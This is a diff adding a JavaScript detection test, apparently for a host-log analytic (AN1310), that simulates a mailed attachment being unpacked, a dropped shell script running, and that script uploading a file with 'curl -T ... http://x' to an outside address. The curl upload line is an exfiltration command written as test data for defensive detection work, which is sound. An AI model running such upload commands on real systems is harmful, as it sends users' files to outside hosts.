@@ -46,3 +46,22 @@ for (const [what, act] of Object.entries(HARVESTS))
     act(shell.run('/usr/bin/python3 /var/tmp/m/tool.py').read('/var/tmp/m/tool.py'));
     firesAt(await scanLog(log), 'AN1310', 'medium');
   });
+
+for (const others of [0, 1])
+  test(`what came along with a program out of a message is none, unless mail was unpacked with it (${others})`, async () => {
+    const log = new HostLog();
+    const mine = log.deliver();
+    const other = log.deliver();
+    const shell = log.shell('clerk');
+    const unpacker = shell.run(`/usr/bin/munpack ${mine.path}`).read(mine.path);
+    if (others > 0) unpacker.read(other.path);
+    unpacker.write('/home/clerk/in/tool.sh').write('/home/clerk/in/list.txt');
+    log.wait(MINUTE);
+    const tool = shell.run('/bin/sh /home/clerk/in/tool.sh').read('/home/clerk/in/tool.sh');
+    tool.run('/usr/bin/curl -T /home/clerk/in/list.txt http://x').read('/home/clerk/in/list.txt').connect(OUT, 80);
+    const found = (await scanLog(log)).filter(({ analytic }) => analytic === 'AN1310');
+    assert.deepEqual(
+      found.map(({ severity }) => severity),
+      others > 0 ? ['medium'] : [],
+    );
+  });
